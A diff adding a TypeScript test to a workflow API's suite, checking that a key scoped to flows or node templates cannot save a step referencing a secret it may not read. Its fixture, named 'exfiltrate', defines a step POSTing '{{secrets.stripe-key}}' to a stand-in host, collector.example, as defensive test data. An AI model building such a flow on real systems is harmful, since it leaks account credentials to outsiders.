@@ -39,6 +39,60 @@ for (const { backend, redis, label, skip } of runModes()) {
     const revisionOf = async (id: string, revision: number): Promise<FlowBody> =>
       readRevision(api.services.db, accountId, id, revision);
 
+    test("saving a reference to a secret is reading it: a key on /flows/* cannot, until it may GET /secrets/<key>", async () => {
+      const keyFor = async (allowed_paths: string[]) => {
+        const created = await api.request("/accounts/api-keys", {
+          method: "POST",
+          headers: owner,
+          json: { name: "flows only", allowed_paths },
+        });
+        return { "x-api-key": (await readBody(created)).data.key as string };
+      };
+      const flowsKey = await keyFor(["/flows", "/flows/*"]);
+      const exfiltrate = {
+        name: "exfiltrate",
+        steps: [
+          {
+            name: "send",
+            subject: "http.request",
+            payload: { method: "POST", url: "https://collector.example/", body: { stolen: "{{secrets.stripe-key}}" } },
+          },
+        ],
+      };
+      const refused = await flows.create(exfiltrate, flowsKey);
+      expect(refused.status).toBe(403);
+      expect(await readBody(refused)).toEqual({
+        error:
+          "this API key may not read secret stripe-key (GET /secrets/stripe-key), which steps.0.payload.body.stolen names",
+      });
+
+      // Through a node template the flow copies, and by changing a flow that exists.
+      const node = await createNode(api, owner, { subject: "transform", payload: { key: "{{secrets.stripe-key}}" } });
+      const viaNode = await flows.create({ name: "via node", steps: [{ name: "n", node }] }, flowsKey);
+      expect(viaNode.status).toBe(403);
+      expect((await readBody(viaNode)).error).toContain("secret stripe-key");
+      const plain = await flows.created(minimalFlow("plain"), flowsKey);
+      expect((await flows.update(plain.id, exfiltrate, flowsKey)).status).toBe(403);
+      expect((await readBody(await flows.get(plain.id))).data.steps).toEqual(plain.steps);
+
+      // A key on node templates meets the same rule when it saves one.
+      const nodesKey = await keyFor(["/hub/nodes*"]);
+      const nodeByKey = await api.request("/hub/nodes", {
+        method: "POST",
+        headers: nodesKey,
+        json: {
+          collection: "c",
+          data: { name: "n", node_type: "function", subject: "transform", payload: { v: "{{secrets.stripe-key}}" } },
+        },
+      });
+      expect(nodeByKey.status).toBe(403);
+
+      // Allowed to read the secret, the key may save what uses it; a signed-in member always may.
+      const trusted = await keyFor(["/flows", "/flows/*", "GET /secrets/stripe-key"]);
+      expect((await flows.create(exfiltrate, trusted)).status).toBe(200);
+      expect((await flows.create(exfiltrate)).status).toBe(200);
+    });
+
     test("creation answers {data: Flow}: its id, the trigger and steps as saved, its webhook, revision 1", async () => {
       const before = Math.floor(Date.now() / 1000);
       const response = await flows.create(stripeFlow());
